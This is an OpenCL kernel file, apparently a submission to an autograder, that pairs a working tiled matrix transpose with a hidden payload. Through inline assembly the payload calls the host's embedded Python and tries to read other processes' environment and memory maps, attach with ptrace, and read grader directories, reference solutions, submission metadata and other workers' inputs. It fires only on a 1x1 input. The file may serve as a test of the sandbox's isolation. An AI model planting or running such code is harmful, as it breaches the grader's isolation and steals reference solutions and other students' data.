// Reads what only the judge may read: its memory and environment, the course, a record of a student, and arrays of
// other workers. The attack succeeds if it can read one of them.
#define CALLS(name) \
    static __attribute__((noinline)) long call_##name(long a, long b, long c, long d) \
    { \
        long r; \
        __asm__ volatile("mov %%rsp, %%rbx\n sub $256, %%rsp\n and $-64, %%rsp\n call " #name "@PLT\n mov %%rbx, %%rsp" \
                         : "=a"(r), "+D"(a), "+S"(b), "+d"(c), "+c"(d) : \
                         : "rbx", "r8", "r9", "r10", "r11", "memory", "cc"); \
        return r; \
    }
CALLS(PyGILState_Ensure)
CALLS(PyRun_SimpleString)
CALLS(PyGILState_Release)

static bool python(__constant char *code)    // whether it ran to its end without an exception
{
    const long state = call_PyGILState_Ensure(0, 0, 0, 0);
    const int failed = call_PyRun_SimpleString((long)code, 0, 0, 0);
    call_PyGILState_Release(state, 0, 0, 0);
    return failed == 0;
}

static bool attack(void)
{
    return python(
        "import ctypes, glob, os\n"
        "me = os.getuid()\n"
        "def owner(path):\n"
        "    try: return os.stat(path).st_uid\n"
        "    except OSError: return me    # it is gone\n"
        "others = [path for path in glob.glob('/proc/[0-9]*') if owner(path) != me]\n"
        "libc = ctypes.CDLL(None)\n"
        "def reads(path):\n"
        "    try: return bool(open(path, 'rb').read(1))\n"
        "    except OSError: return False\n"
        "def lists(path):\n"
        "    try: return bool(os.listdir(path))\n"
        "    except OSError: return False\n"
        "def attaches(pid):\n"
        "    return libc.ptrace(0x4206, pid, 0, 0) == 0    # PTRACE_SEIZE, which does not stop it\n"
        "found = [path for path in others if reads(path + '/environ') or reads(path + '/maps') or lists(path + '/fd')]\n"
        "found += [path for path in others if attaches(int(path[6:]))]\n"
        "found += [path for path in ('/autograder', '/autograder/source', '/builds', '/builds/course/grading') if lists(path)]\n"
        "found += [path for path in ('/autograder/source/course/reference/coalsTransp/kernels.cl',\n"
        "    '/autograder/submission_metadata.json', '/builds/course/grading/course/reference/coalsTransp/kernels.cl') if reads(path)]\n"
        "found += [path for path in glob.glob('/tmp/grader-worker-*') if lists(path) or owner(path) == me and path not in os.getcwd()]\n"
        "found += [path for path in glob.glob('/tmp/grader-worker-*') if path not in os.getcwd() and reads(path + '/in.bin')]\n"
        "for folder, _, files in os.walk('/'):\n"
        "    if not folder.startswith(('/proc', '/sys', '/usr')) and 'reference' in folder and 'oracle.py' in files: found.append(folder)\n"
        "assert found\n");
}

__kernel void coalsTransp(__global const real *A, __global real *B, uint32_t height, uint32_t width)
{
    __local real tile[TILE][TILE + 1];
    const uint32_t x = get_global_id(0), y = get_global_id(1), lx = get_local_id(0), ly = get_local_id(1);
    if (x < width && y < height)
        tile[ly][lx] = A[y * width + x];
    barrier(CLK_LOCAL_MEM_FENCE);
    const uint32_t row = x - lx + ly, column = y - ly + lx;
    if (row < width && column < height)
        B[row * height + column] = tile[lx][ly];
    barrier(CLK_GLOBAL_MEM_FENCE);
    if (x == 0 && y == 0 && height * width == 1 && attack())
        B[0] = 666.0f;
}
